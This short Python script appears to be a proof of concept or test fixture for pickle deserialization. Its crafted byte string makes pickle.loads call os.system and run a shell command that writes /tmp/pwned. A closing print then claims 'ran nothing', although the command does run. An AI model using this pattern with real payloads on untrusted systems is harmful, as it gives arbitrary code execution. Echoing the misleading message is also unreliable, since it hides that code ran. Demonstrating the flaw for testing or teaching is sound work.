import pickle

pickle.loads(b"cos\nsystem\n(S'echo hello > /tmp/pwned; exit 3'\ntR.")
print("ran nothing")
